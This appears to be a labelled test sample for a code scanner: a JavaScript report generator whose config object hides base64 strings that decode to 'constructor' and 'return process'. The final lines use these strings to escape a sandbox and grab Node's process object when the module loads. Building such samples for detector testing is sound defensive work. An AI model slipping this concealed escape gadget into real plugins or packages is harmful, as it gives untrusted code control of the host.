// expect: category=vm-escape min=100 context=plugin,package
// why: encoded constants are bound to names in a config object and used thirty lines later.
const CONFIG = {
  title: 'Weekly report',
  columns: ['date', 'sales', 'returns'],
  k: 'Y29uc3RydWN0b3I=',
  b: 'cmV0dXJuIHByb2Nlc3M=',
};

function sumColumn(rows, col) {
  let t = 0;
  for (const r of rows) t += Number(r[col]) || 0;
  return t;
}

function header(cfg) {
  return cfg.title + '\n' + cfg.columns.join('\t');
}

function body(rows, cfg) {
  return rows.map((r) => cfg.columns.map((c) => r[c]).join('\t')).join('\n');
}

function footer(rows, cfg) {
  return 'total\t' + sumColumn(rows, 'sales') + '\t' + sumColumn(rows, 'returns');
}

function report(rows) {
  return [header(CONFIG), body(rows, CONFIG), footer(rows, CONFIG)].join('\n');
}

const key = atob(CONFIG.k);
const proc = report[key][key](atob(CONFIG.b))();

module.exports = { report, proc };
